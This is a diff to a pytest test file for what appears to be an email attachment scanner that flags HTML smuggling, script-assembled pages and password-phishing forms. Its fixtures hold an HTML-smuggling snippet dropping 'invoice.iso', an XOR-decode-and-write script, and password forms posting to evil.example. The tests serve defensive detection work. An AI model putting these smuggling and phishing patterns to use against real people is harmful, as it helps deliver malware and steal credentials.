@@ -10,6 +10,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from firstsight.mail.content.magic import detect
 from firstsight.mail.inside import TRAITS, File, look_inside
 from firstsight.mail.inside.markup import MAX_FILES, MAX_LINKS, MAX_TEXT, data_files, open_markup
 from firstsight.mail.inside.opener import Inside
@@ -157,8 +158,12 @@ def test_what_is_packed_more_often_than_is_unpacked_stays_packed() -> None:
 
 
 def test_a_file_that_a_script_hands_over_is_smuggled() -> None:
-    script = "var b = new Blob([bytes]); a.href = URL.createObjectURL(b); a.download = 'invoice.iso'; a.click()"
-    assert "smuggling" in opened(f"<script>{script}</script>").traits
+    script = "var b = new Blob([bytes]); a.href = URL.createObjectURL(b); a.download = '{}'; a.click()"
+    archive = b64encode(b"PK\x03\x04" + bytes(90)).decode()
+    assert "smuggling" in opened(f"<script>{script.format('invoice.iso')}</script>").traits
+    inside = opened(f"<script>bytes = atob('{archive}'); {script.format('invoice')}</script>")
+    assert "smuggling" in inside.traits
+    assert [file.detected for file in inside.files] == ["application/zip"]
     assert "smuggling" not in opened("<script>var a = new Blob([bytes]); post(a)</script>").traits
 
 
@@ -203,3 +208,44 @@ def test_pieces_in_any_order_never_raise(pieces: list[str]) -> None:
 @given(st.binary(max_size=300))
 def test_any_script_never_raises(octets: bytes) -> None:
     opened(b"<script>" + octets).text.encode()
+
+
+LIBRARY = """
+function show(t) { document.getElementById("t").innerHTML = t; var f = document.implementation.createHTMLDocument("");
+f.body.innerHTML = "<form></form><form></form>"; return unescape(encodeURIComponent(t)) + String.fromCharCode(65) }
+function save(t) { var a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([t]));
+a.download = "figures.csv"; a.click() } var icon = "url(data:image/svg+xml;utf8,%3Csvg xmlns='x'%3E%3C/svg%3E)";
+var page = atob(location.hash.slice(1)); eval("1+1"); var ns = "http://www.w3.org/1999/xhtml";
+"""
+"""What libraries of tables and charts have in them: calls that also pages use which put themselves together."""
+
+
+def test_a_report_with_its_library_in_it_does_not_put_itself_together() -> None:
+    inside = opened(f"<script>{LIBRARY}</script><table><tr><td>93 %</table><script>show([1, 2, 3])</script>")
+    assert not {"script-assembly", "assembled-form", "smuggling", "password-field"}.intersection(inside.traits)
+    assert inside.links == ()
+
+
+def test_a_script_that_is_mostly_packed_and_shows_what_it_unpacks_puts_the_page_together() -> None:
+    cipher = b64encode(bytes(octet * 37 & 0xFF for octet in range(400))).decode()
+    script = f"k='key';e=atob('{cipher}');for(i=0;i<e.length;i++)o+=c(e.charCodeAt(i)^k);document.write(o)"
+    assert "script-assembly" in opened(f"<script>{script}</script>").traits
+
+
+def test_a_web_archive_is_read_as_its_page() -> None:
+    archive = (
+        "From: <Saved by a browser>\r\nSubject: Page\r\nMIME-Version: 1.0\r\n"
+        'Content-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n'
+        f"Content-Transfer-Encoding: base64\r\n\r\n{PACKED}\r\n--b--\r\n"
+    ).encode()
+    inside = look_inside(File("page.mht", "application/octet-stream", "message/rfc822", archive))
+    assert {"form", "password-field"} <= set(inside.traits)
+    assert hrefs(inside) == ["https://evil.example/x"]
+    assert look_inside(File("mail.eml", "message/rfc822", "message/rfc822", archive)) == Inside()
+
+
+@pytest.mark.parametrize("start", ["#!/bin/sh\n", "MZ", "%PDF-1.7\n", "GIF89a"])
+def test_a_page_is_read_whatever_it_begins_with(start: str) -> None:
+    octets = f'{start}<form action="https://evil.example/p"><input type=password></form>'.encode()
+    inside = look_inside(File("fax.html", "application/octet-stream", detect(octets), octets))
+    assert "password-field" in inside.traits
